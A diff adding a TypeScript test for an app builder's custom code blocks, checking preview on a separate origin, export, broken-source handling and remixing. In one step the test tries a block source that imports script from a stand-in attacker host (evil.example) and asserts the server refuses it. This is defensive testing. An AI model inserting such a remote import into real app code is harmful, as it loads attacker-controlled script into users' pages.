@@ -252,3 +252,68 @@ test("what is not one's own does not exist, and a path outside of the app is no 
   }
   expect((await call(ada, "override-save", { ...file, text: "x".repeat(200_001) })).body.error?.field).toBe("text");
 });
+
+test("a block of one's own is in preview, export and remix, on the app's origin alone, and stays shown while its source is broken", async () => {
+  const projectId = await create();
+  const block = (source: string) => ({
+    id: "clock",
+    name: "Clock",
+    icon: "clock",
+    properties: [],
+    data: [],
+    packages: [],
+    source,
+  });
+  const good = `export default function Clock() {\n  return <p className="card panel">Tick tock of Ada</p>;\n}\n`;
+  const placed = { id: "homeClock", kind: "custom", customBlock: "clock", values: {} };
+  const made = await done("project-edit", {
+    projectId,
+    baseVersion: 1,
+    ops: [
+      { op: "add-custom-block", customBlock: block(good) },
+      { op: "add-block", page: "home", block: placed },
+    ],
+  });
+  const preview = await done("project-preview", { projectId });
+  expect(new URL(preview.origin).host).not.toBe(new URL(server.url).host);
+  expect(await served(preview.origin, SCRIPT)).toContain("Tick tock of Ada");
+  const path = "src/custom/clock/block.tsx";
+  expect((await exported(projectId))[path]).toBe(good);
+  expect(await done("project-file", { projectId, path })).toMatchObject({ state: "block", text: good, editable: true });
+
+  const source = (text: string) => ({ op: "update-custom-block", customBlock: "clock", patch: { source: text } });
+  const evil = await call(ada, "project-edit", {
+    projectId,
+    baseVersion: 2,
+    ops: [source(`import "https://evil.example/x.js";\n${good}`)],
+  });
+  expect([evil.status, evil.body.error?.message]).toEqual([
+    400,
+    expect.stringContaining('imports "https://evil.example/x.js", which a block may not use'),
+  ]);
+  const byFile = await call(ada, "override-save", { projectId, baseVersion: 2, path, text: good, settle: false });
+  expect([byFile.status, byFile.body.error?.message]).toEqual([
+    400,
+    expect.stringContaining("source of the block Clock"),
+  ]);
+
+  const broken = await done("project-edit", { projectId, baseVersion: 2, ops: [source(good.replace("</p>", ""))] });
+  expect(broken).toMatchObject({ version: 3, appHash: made.appHash });
+  expect(await served(preview.origin, SCRIPT)).toContain("Tick tock of Ada");
+  expect((await done("source-problems", { projectId })).broken).toMatch(/src\/custom\/clock\/block\.tsx:\d+: /);
+  await done("project-edit", { projectId, baseVersion: 3, ops: [source(good.replace("Tick", "Tack"))] });
+  const published = await done("publication-publish", {
+    projectId,
+    slug: "leafbook",
+    listed: true,
+    title: "Leafbook",
+    description: "",
+    hashtags: [],
+    category: "Nature",
+  });
+  const remix = await call(eve, "gallery-remix", { publicationId: published.publicationId });
+  const copy = await call(eve, "project-preview", { projectId: remix.body.projectId });
+  expect(new URL(copy.body.origin).host).not.toBe(new URL(server.url).host);
+  expect(new URL(copy.body.origin).host).not.toBe(new URL(preview.origin).host);
+  expect(await served(copy.body.origin, SCRIPT)).toContain("Tack tock of Ada");
+});
